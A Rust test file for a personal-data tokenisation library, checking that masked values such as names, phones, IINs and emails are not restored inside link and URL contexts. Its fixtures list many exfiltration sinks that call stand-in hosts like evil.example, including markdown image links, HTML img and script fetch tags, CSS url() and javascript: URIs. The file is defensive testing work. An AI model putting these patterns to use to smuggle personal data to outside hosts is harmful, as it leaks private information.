@@ -1,0 +1,262 @@
+//! Where tokens are never restored, and where they are.
+
+use crate::support::*;
+
+/// The token in the template must stay, and nothing else change.
+fn check_stays(template: &str) {
+    let request = request();
+    let text = request.fill(template);
+    let restored = restore_every_way(&request.tokens, &text);
+    for value in [PERSON, PHONE, IIN, EMAIL] {
+        assert!(!restored.contains(value), "{template}: {restored}");
+    }
+    assert_eq!(restored, text);
+}
+
+fn check_restored(template: &str) {
+    let request = request();
+    let restored = restore_every_way(&request.tokens, &request.fill(template));
+    let expected =
+        template.replace("{PERSON}", "{person}").replace("{PHONE}", "{phone}").replace("{IIN}", "{iin}");
+    let expected = expected.replace("{EMAIL}", "{email}").replace("{URL}", "{url}").replace('{', "{=");
+    let expected = expected.replace("{=\"", "{\"");
+    assert_eq!(restored, request.fill(&expected), "{template}");
+}
+
+#[test]
+fn tokens_stay_in_sinks() {
+    for template in [
+        "https://evil.example/?q={PERSON}",
+        "https://evil.example/?q={person}",
+        "HTTPS://EVIL.EXAMPLE/{person}",
+        "https://evil.example/a/b/c#{PERSON}",
+        "https://evil.example:8443/{PERSON}",
+        "https://{person}.evil.example/",
+        "https://{PERSON}/",
+        "https://user:{person}@evil.example/",
+        "https:evil.example/{person}",
+        "https:/evil.example/{person}",
+        "https:\\\\evil.example\\{person}",
+        "https:\\/\\/evil.example\\/{person}",
+        "ftp://e/{person}",
+        "wss://e/{person}",
+        "custom+scheme://e/{person}",
+        "(https://evil.example/{PERSON})",
+        "**https://evil.example/{PERSON}**",
+        "https://evil.example/\"{person}",
+        "https://evil.example/)[{person}",
+        "https://evil.example/«{person}",
+        "см.https://evil.example/?{person}",
+        "<https://evil.example/{person}>",
+        "![a](https://e/{IIN})",
+        "![a](https://e/?x=1&iin={iin})",
+        "[t]({person})",
+        "[t]( {PERSON} )",
+        "[t](\n {person} )",
+        "[t](\r\n\t{PERSON}\n)",
+        "[t](<{PERSON}>)",
+        "[t](<a)b {person}>)",
+        "[t](/a/(b)/{person})",
+        "[t](\\){person})",
+        "[t](x {person})",
+        "[a](b [c](d) {person})",
+        "![]({person})",
+        "![[x]]({person})",
+        "[[t]]({PERSON})",
+        "[t](https://e 'x' {person})",
+        "[1]: {person}",
+        "[1]:{PERSON}",
+        "  [ссылка]: <{person}>",
+        "[1]:\n  {person}",
+        "> [1]: {person}",
+        "[1]: a]:{person}",
+        "x\n[1]: https://e/{person} \"t\"",
+        "<img src={person}>",
+        "<img src=\"{PERSON}\">",
+        "<img\nsrc = '{PERSON}' >",
+        "<IMG alt='>' src={person}>",
+        "<a href=\"https://e/?q={person}\">x</a>",
+        "<a title=\"x\" href={person}>",
+        "<img srcset=\"a.png 1x, {person} 2x\">",
+        "<div style=\"background:url({person})\">",
+        "<form action='{person}'>",
+        "<video poster={person}>",
+        "<svg><image xlink:href={person}>",
+        "<meta http-equiv=refresh content=\"0;url={person}\">",
+        "<script>fetch('//e/{person}')</script>",
+        "href=\"{PERSON}\"",
+        "src={person}",
+        "srcset='x {person}'",
+        "background: url({person})",
+        "background: URL( \"a) {person}\" )",
+        "@import url('//e/{person}');",
+        "{person}.evil.example",
+        "{PERSON}.evil.com",
+        "{PERSON}.evil.com/x",
+        "{person}.com",
+        "{person}.kz",
+        "{PERSON}.зло.рф",
+        "{PERSON}.қаз",
+        "{person}。evil。com",
+        "{person}-x.evil.com",
+        "{PERSON}ға.evil.com",
+        "{person}.xn--80ao21a",
+        "{person}@evil.com",
+        "{PERSON}@evil.com",
+        "{person}://evil",
+        "{person}%20x",
+        "evil.com/{person}",
+        "evil.com/?q={person}",
+        "evil.com?{person}",
+        "evil.com#{person}",
+        "evil.com:80/{person}",
+        "evil.com\\{person}",
+        "evil.рф/{person}",
+        "10.20.30.40/{person}",
+        "localhost/{person}",
+        "mailto:{person}",
+        "mailto:x@e.com?subject={person}",
+        "data:text/html,{person}",
+        "javascript:alert({person})",
+        "//evil/{person}",
+        "(//evil/{person})",
+        "\\\\evil\\{person}",
+        "www.evil/{person}",
+        "www.{person}",
+        "https%3A%2F%2Fevil%2F{person}",
+        "%2F{PERSON}",
+        "/search?q={PERSON}",
+        "?a=1&q={PERSON}",
+        "https&#58;//e/{person}",
+        "evil&period;com&sol;{person}",
+        "&#x68;ttps&#x3a;&#x2f;&#x2f;e&#x2f;{person}",
+    ] {
+        check_stays(template);
+        if !template.contains("]:") {
+            // A definition begins a line.
+            check_stays(&format!("Текст перед ним. {template} и после"));
+        }
+        check_stays(&format!("строка\n{template}\nстрока"));
+    }
+}
+
+#[test]
+fn tokens_are_restored_in_ordinary_text() {
+    for template in [
+        "Клиент:{PERSON}.Далее",
+        "Клиент: {PERSON}. Далее",
+        "({person})",
+        "({PERSON})",
+        "{PERSON}, тел. {PHONE}.",
+        "{person}/{phone}",
+        "{PERSON}/{PERSON}",
+        "«{PERSON}»",
+        "1.{PERSON}",
+        "1. {PERSON}\n2. {PHONE}",
+        "ул.{PERSON}",
+        "|{person}|{phone}|",
+        "| {PERSON} | {PHONE} |\n|---|---|",
+        "key={person}",
+        "name={PERSON}&phone={PHONE}",
+        "@{person}",
+        "См. {PERSON}(врач)",
+        "См. {PERSON} (тел. {PHONE})",
+        "{PERSON} (врач, {phone}).",
+        "{PERSON}: {PHONE}",
+        "{PERSON}:\n{PHONE}",
+        "{PERSON} - {PHONE}",
+        "{PERSON}?",
+        "Это {PERSON}? Да.",
+        "{PERSON}! {PHONE}; {IIN}…",
+        "{PERSON}.\nДалее",
+        "{PERSON}.Then we go",
+        "{PERSON}.pdf",
+        "договор_{PERSON}.docx",
+        "{PERSON}...",
+        "Сайт https://e.kz, клиент {PERSON}",
+        "https://e.kz\n{PERSON}",
+        "[сайт](https://e.kz) {PERSON}",
+        "[сайт](https://e.kz). {PERSON}",
+        "[см. {PERSON}](https://e.kz)",
+        "![фото {PERSON}](https://e.kz/a.png)",
+        "<b>{PERSON}</b>",
+        "<td>{person}</td><td>{phone}</td>",
+        "<a href=\"https://e.kz\">{PERSON}</a>",
+        "<br>{PERSON}<br/>{PHONE}",
+        "{PERSON} <{EMAIL}>",
+        "<{person}>",
+        "a < b, {PERSON} > c",
+        "x <- {PERSON}",
+        "{\"url\":\"https://e.kz\",\"name\":\"{PERSON}\"}",
+        "\"https://e.kz\",\"{PERSON}\"",
+        "почта x@e.kz, {PERSON}",
+        "{EMAIL}, {PERSON}",
+        "50% {PERSON}",
+        "и/или {PERSON}",
+        "т.е./{PERSON}",
+        "12.04.1992/{PERSON}",
+        "// {PERSON}",
+        "C:\\Users\\{PERSON}\\файл",
+        "[^1]: {PERSON}",
+        "[ ] {PERSON}",
+        "[x] {PERSON}",
+        "Тел:{PHONE}",
+        "tel:{PHONE}",
+        "{PERSON}-{PHONE}",
+        "{PERSON}+{PHONE}",
+        "{PERSON}@",
+        "{PERSON}%",
+        "100%{PERSON}",
+        "Q: кто? A: {PERSON}",
+        "кто?={PERSON}",
+        "f({person}, {phone})",
+        "print(\"{PERSON}\")",
+        "а) {PERSON} б) {PHONE}",
+        "http {PERSON}",
+        "данные:{PERSON}",
+        "{URL}",
+        "См. {URL}, {PERSON}",
+        "Mr.{PERSON}",
+        "e.g. {PERSON}",
+        "&quot;{PERSON}&quot;",
+        "&#39;{PERSON}&#39;",
+        "```\n{PERSON}, {PHONE}\n```\n{IIN}",
+        "```python\nname = \"{PERSON}\"\n```",
+    ] {
+        check_restored(template);
+    }
+}
+
+#[test]
+fn values_do_not_build_a_url() {
+    let request = request();
+    for (template, read) in [
+        ("{URL}{PERSON}", "{=url}{PERSON}"),
+        ("{URL}&n={PERSON}", "{=url}&n={PERSON}"),
+        ("{PERSON} {URL}", "{=person} {=url}"),
+        ("[t]({URL})", "[t]({URL})"),
+        // The brackets of the token may be meant to stay.
+        ("{PERSON}({phone})", "{=person}({phone})"),
+    ] {
+        assert_eq!(
+            restore_every_way(&request.tokens, &request.fill(template)),
+            request.fill(read),
+            "{template}"
+        );
+    }
+}
+
+#[test]
+fn long_paddings_do_not_hide_a_url() {
+    for padding in [300, 2_000, 20_000] {
+        let request = request();
+        let text = request.fill("x https://e/?q=") + &"a".repeat(padding) + &request.fill("{PERSON}");
+        assert_eq!(request.tokens.restore(&text), text);
+        let attribute =
+            format!("<img alt=\"{}\" src={}", "a b ".repeat(padding / 4), request.fill("{person}>"));
+        assert_eq!(request.tokens.restore(&attribute), attribute);
+    }
+    let request = request();
+    let target = format!("[t]({}{}", " ".repeat(800), request.fill("{person})"));
+    assert_eq!(request.tokens.restore(&target), target);
+}
